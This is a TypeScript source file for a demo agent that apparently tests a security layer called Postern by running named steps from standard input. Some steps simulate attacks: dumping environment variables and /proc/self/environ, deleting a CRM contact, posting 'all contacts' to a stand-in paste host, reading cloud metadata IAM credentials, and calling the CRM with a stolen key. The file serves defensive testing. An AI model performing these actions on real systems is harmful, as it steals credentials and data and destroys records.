// The agent of the demo, a program like any other: `fetch`, and the OpenAI SDK as it comes. It knows nothing of Postern.
// It does what each line of its standard input says, and tells of it in a line of its standard output.
import { readFile } from 'node:fs/promises'
import { createInterface } from 'node:readline'
import OpenAI from 'openai'
import type { Report } from './reports.ts'

/** A key that the agent got hold of somewhere: in a prompt, in a file, in a repository. */
const stolenKey = process.argv[2] ?? ''
const crm = process.env.CRM_URL ?? ''

function tell(report: Report): void {
  console.log(JSON.stringify(report))
}

async function call(step: string, url: string, init: RequestInit = {}): Promise<void> {
  try {
    const answer = await fetch(url, { ...init, signal: AbortSignal.timeout(10_000) })
    tell({ did: 'fetch', step, status: answer.status, body: await answer.text() })
  } catch (error) {
    tell({ did: 'fetch', step, body: '', failed: withCauses(error) })
  }
}

function withCauses(error: unknown): string {
  if (!(error instanceof Error)) return String(error)
  return error.cause === undefined ? error.message : `${error.message}: ${withCauses(error.cause)}`
}

async function stream(step: string): Promise<void> {
  let events = 0
  let text = ''
  try {
    const answer = await new OpenAI({ maxRetries: 0, timeout: 10_000 }).chat.completions.create({
      model: 'demo-model',
      stream: true,
      messages: [{ role: 'user', content: 'Whom should I call back first?' }],
    })
    for await (const event of answer) {
      events += 1
      text += event.choices[0]?.delta.content ?? ''
      tell({ did: 'hear', step })
    }
    tell({ did: 'stream', step, text, events })
  } catch (error) {
    tell({ did: 'stream', step, text, events, failed: withCauses(error) })
  }
}

async function lookAround(): Promise<void> {
  const environ = await readFile('/proc/self/environ', 'latin1').catch(() => '')
  const variables = Object.entries(process.env).map(([name, value = '']) => [name, value] as const)
  tell({ did: 'look-around', step: 'look-around', variables: Object.fromEntries(variables), environ })
}

const metadata = 'latest/meta-data/iam/security-credentials/'

const steps: Readonly<Record<string, () => Promise<void>>> = {
  'look-around': lookAround,
  contacts: () => call('contacts', `${crm}/v1/contacts`),
  model: () => stream('model'),
  delete: () => call('delete', `${crm}/v1/contacts/c_1`, { method: 'DELETE' }),
  'unknown-host': () => call('unknown-host', 'https://paste.example/upload', { method: 'POST', body: 'all contacts' }),
  metadata: () => call('metadata', `http://169.254.169.254/${metadata}`),
  'metadata-by-name': () => call('metadata-by-name', `https://weather.tools.example/${metadata}`),
  'stolen-key': () => call('stolen-key', `${crm}/v1/contacts`, { headers: { authorization: `Bearer ${stolenKey}` } }),
  echo: () => call('echo', `${crm}/v1/echo`),
}

for await (const step of createInterface({ input: process.stdin })) await steps[step]?.()
